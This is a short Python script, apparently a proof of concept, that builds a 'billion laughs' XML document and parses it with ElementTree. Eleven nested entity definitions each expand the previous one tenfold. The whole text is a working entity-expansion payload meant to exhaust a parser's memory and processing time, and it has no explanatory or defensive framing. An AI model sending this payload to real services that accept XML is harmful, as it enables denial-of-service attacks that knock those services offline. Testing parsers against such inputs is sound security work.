import xml.etree.ElementTree as ET
text = '<!DOCTYPE a [<!ENTITY a0 "lol">' + "".join('<!ENTITY a%d "%s">' % (n, "&a%d;" % (n - 1) * 10) for n in range(1, 12)) + "]><a>&a11;</a>"
ET.fromstring(text)
